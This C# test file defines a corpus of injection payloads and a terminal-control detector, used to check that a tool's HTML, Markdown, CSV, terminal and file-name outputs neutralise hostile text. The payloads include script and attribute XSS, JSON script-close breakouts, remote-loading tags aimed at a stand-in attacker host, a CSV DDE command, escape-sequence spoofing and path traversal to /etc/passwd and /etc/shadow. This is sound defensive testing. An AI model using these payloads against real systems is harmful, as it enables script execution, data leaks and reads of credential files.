namespace Kinship.Testing;

/// <summary>
/// One hostile text: what it attacks (<see cref="Kind"/>), the text itself, and a fragment of it that must still be
/// visible once neutralised (null when nothing of it is meant to survive, as for <c>.</c> as a file name).
/// </summary>
internal sealed record InjectionCase(string Name, string Kind, string Text, string? Visible)
{
    public override string ToString() => Name;
}

/// <summary>
/// Everything an adversarial model, a provider's error body or a scenario or transcript file could write to attack an
/// output: script and attribute injection, <c>&lt;/script&gt;</c> inside embedded JSON, remote images and links in
/// Markdown, CSV formulas, terminal escape sequences and Spectre markup, path traversal and reserved file names, NUL
/// and half surrogate pairs. Remote references point at <c>{attacker}</c>, which a test replaces with a loopback
/// listener of its own so that any request that leaves an output is counted.
/// </summary>
internal static class InjectionCorpus
{
    /// <summary>Where the corpus's remote references point unless a test gives its own listener.</summary>
    public const string DefaultAttacker = "http://127.0.0.1:9";

    /// <summary>The global a script from the corpus would set if it ever ran.</summary>
    public const string Marker = "__kinshipPwned";

    public static IReadOnlyList<InjectionCase> Cases(string attacker = DefaultAttacker) =>
        [
            // HTML: script and attribute injection, and the end of a script element inside JSON embedded in a page.
            new("script-tag", "html", $"<script>window.{Marker}=1</script>script-tag", "script-tag"),
            new("script-src", "html", $"<script src=\"{attacker}/script.js\"></script>script-src", "script-src"),
            new("attribute-double-quote", "html", $"\" onerror=\"window.{Marker}=1\" x=\"", "onerror"),
            new("attribute-single-quote", "html", $"' onmouseover='window.{Marker}=1' x='", "onmouseover"),
            new("img-onerror", "html", $"<img src=x onerror=\"window.{Marker}=1\">img-onerror", "img-onerror"),
            new("img-remote", "html", $"<img src=\"{attacker}/img.png\">img-remote", "img-remote"),
            new("javascript-url", "html", $"javascript:window.{Marker}=1", "javascript"),
            new("anchor-javascript", "html", $"<a href=\"javascript:window.{Marker}=1\">anchor-javascript</a>", "anchor-javascript"),
            new("json-script-close", "html", $"\"}}]</script><script>window.{Marker}=1</script>json-script-close", "json-script-close"),
            new("html-comment-open", "html", "<!--<script>html-comment-open", "html-comment-open"),
            new("iframe", "html", $"<iframe src=\"{attacker}/frame\"></iframe>iframe", "iframe"),
            new("svg-onload", "html", $"<svg onload=\"window.{Marker}=1\">svg-onload", "svg-onload"),
            new("style-import", "html", $"<style>@import url({attacker}/style.css);</style>style-import", "style-import"),
            new("meta-refresh", "html", $"<meta http-equiv=\"refresh\" content=\"0;url={attacker}/refresh\">meta-refresh", "meta-refresh"),
            new("base-href", "html", $"<base href=\"{attacker}/\">base-href", "base-href"),
            new("link-stylesheet", "html", $"<link rel=\"stylesheet\" href=\"{attacker}/link.css\">link-stylesheet", "link-stylesheet"),
            // Markdown: remote images, links (javascript: and remote), autolinks of every kind, raw HTML and structure.
            new("md-image", "markdown", $"![md-image]({attacker}/md.png)", "md-image"),
            new("md-link-javascript", "markdown", $"[md-link-javascript](javascript:window.{Marker}=1)", "md-link-javascript"),
            new("md-link-remote", "markdown", $"[md-link-remote]({attacker}/link)", "md-link-remote"),
            new("md-reference", "markdown", $"[md-reference][r]\n\n[r]: {attacker}/reference", "md-reference"),
            new("md-autolink", "markdown", $"<{attacker}/autolink>", "autolink"),
            new("md-bare-url", "markdown", $"see {attacker}/bare-url", "bare-url"),
            new("md-www", "markdown", "www.attacker.example/md-www", "md-www"),
            new("md-email", "markdown", "victim@attacker.example", "victim"),
            new("md-mailto", "markdown", "mailto:victim@attacker.example", "mailto"),
            new("md-raw-html", "markdown", $"\n\n<div onclick=\"window.{Marker}=1\">md-raw-html</div>\n\n", "md-raw-html"),
            new("md-attributes", "markdown", $"md-attributes{{onclick=\"window.{Marker}=1\"}}", "md-attributes"),
            new("md-heading", "markdown", "# md-heading", "md-heading"),
            new("md-table-pipe", "markdown", "| md-table | pipe |", "md-table"),
            new("md-emphasis", "markdown", "**md-emphasis** _x_ `code`", "md-emphasis"),
            new("md-entity", "markdown", "&lt;script&gt;md-entity&#106;", "md-entity"),
            new("md-ordered-list", "markdown", "1. md-ordered-list", "md-ordered-list"),
            new("md-bullet", "markdown", "- md-bullet", "md-bullet"),
            new("md-code-fence", "markdown", "```\nmd-code-fence\n```", "md-code-fence"),
            new("md-extras", "markdown", "==md-extras== ++ins++ \"\"cite\"\" ~~del~~ ^sup^ ~sub~ $x$", "md-extras"),
            new("md-container", "markdown", ":::md-container\n:::", "md-container"),
            new("md-definition", "markdown", "term\n: md-definition", "md-definition"),
            // CSV: formulas and DDE, at the start of a cell.
            new("csv-equals", "csv", "=1+1", "1+1"),
            new("csv-plus", "csv", "+1+1", "1+1"),
            new("csv-minus", "csv", "-1+1", "1+1"),
            new("csv-at", "csv", "@SUM(1+1)", "SUM"),
            new("csv-tab", "csv", "\t=1+1", "=1+1"),
            new("csv-cr", "csv", "\r=1+1", "=1+1"),
            new("csv-hyperlink", "csv", $"=HYPERLINK(\"{attacker}/csv\",\"csv-hyperlink\")", "csv-hyperlink"),
            new("csv-dde", "csv", "=cmd|' /C calc'!A0", "calc"),
            new("csv-quote-comma", "csv", "a,\"b\"\nc", "a,"),
            // Terminals: CSI, OSC (title, hyperlink), C1, BEL, backspace, carriage return overwrite, bidi overrides, markup.
            new("csi-clear", "terminal", "\u001b[2J\u001b[Hcsi-clear", "csi-clear"),
            new("csi-colour", "terminal", "\u001b[31mcsi-colour\u001b[0m", "csi-colour"),
            new("osc-title", "terminal", "\u001b]0;pwned\u0007osc-title", "osc-title"),
            new("osc-hyperlink", "terminal", $"\u001b]8;;{attacker}/osc\u001b\\osc-hyperlink\u001b]8;;\u001b\\", "osc-hyperlink"),
            new("c1-csi", "terminal", "\u009b2Jc1-csi", "c1-csi"),
            new("c1-osc", "terminal", "\u009d0;pwned\u009cc1-osc", "c1-osc"),
            new("bell", "terminal", "bell\u0007\u0007", "bell"),
            new("backspace", "terminal", "backspace-safe\b\b\b\b\bEVIL", "backspace-safe"),
            new("carriage-return", "terminal", "carriage-return-safe\rEVIL", "carriage-return-safe"),
            new("bidi-override", "terminal", "bidi-override\u202egnp.exe", "bidi-override"),
            new("bidi-isolate", "terminal", "bidi-isolate\u2067x\u2069", "bidi-isolate"),
            new("delete", "terminal", "delete\u007f", "delete"),
            new("markup-colour", "terminal", "[red]markup-colour[/]", "[red]markup-colour[/]"),
            new("markup-link", "terminal", $"[link={attacker}/markup]markup-link[/]", "markup-link"),
            new("markup-broken", "terminal", "[/] markup-broken [", "markup-broken"),
            // File names: traversal, separators, reserved and device names, length.
            new("path-traversal", "path", "../../etc/passwd", "passwd"),
            new("path-traversal-windows", "path", "..\\..\\windows\\win.ini", "win.ini"),
            new("path-absolute", "path", "/etc/shadow", "shadow"),
            new("path-separator", "path", "a/b", null),
            new("path-dot", "path", ".", null),
            new("path-dot-dot", "path", "..", null),
            new("path-con", "path", "CON", "CON"),
            new("path-nul", "path", "NUL", "NUL"),
            new("path-com1-extension", "path", "com1.txt", "com1"),
            new("path-trailing-dot", "path", "trailing-dot.", "trailing-dot"),
            new("path-trailing-space", "path", "trailing-space ", "trailing-space"),
            new("path-long", "path", new string('x', 300) + "-long", null),
            new("path-long-multibyte", "path", string.Concat(Enumerable.Repeat("é", 200)), null),
            // Text that is not text: NUL and half surrogate pairs.
            new("nul", "unicode", "nul-before\0nul-after", "nul-after"),
            new("lone-high-surrogate", "unicode", "high\ud800surrogate", "surrogate"),
            new("lone-low-surrogate", "unicode", "low\udc00surrogate", "surrogate"),
            new("reversed-surrogates", "unicode", "reversed\udc00\ud800pair", "pair"),
        ];

    /// <summary>Every code unit an output shown in a terminal must never carry: C0 (but newline, tab and CR of CR LF), DEL, C1, bidi controls, surrogates without their pair.</summary>
    public static string? FirstTerminalControl(string output)
    {
        for (var i = 0; i < output.Length; i++)
        {
            var ch = output[i];
            if (char.IsHighSurrogate(ch) && i + 1 < output.Length && char.IsLowSurrogate(output[i + 1]))
            {
                i++;
                continue;
            }
            if (ch == '\r' && i + 1 < output.Length && output[i + 1] == '\n')
                continue;
            if (
                ch is < ' ' and not '\n' and not '\t'
                || ch is >= '\u007f' and <= '\u009f'
                || ch is '\u061c' or '\u200e' or '\u200f' or '\u2028' or '\u2029'
                || ch is >= '\u202a' and <= '\u202e'
                || ch is >= '\u2066' and <= '\u2069'
                || char.IsSurrogate(ch)
            )
                return $"U+{(int)ch:X4} at {i}: …{output[Math.Max(0, i - 40)..i]}…";
        }
        return null;
    }
}
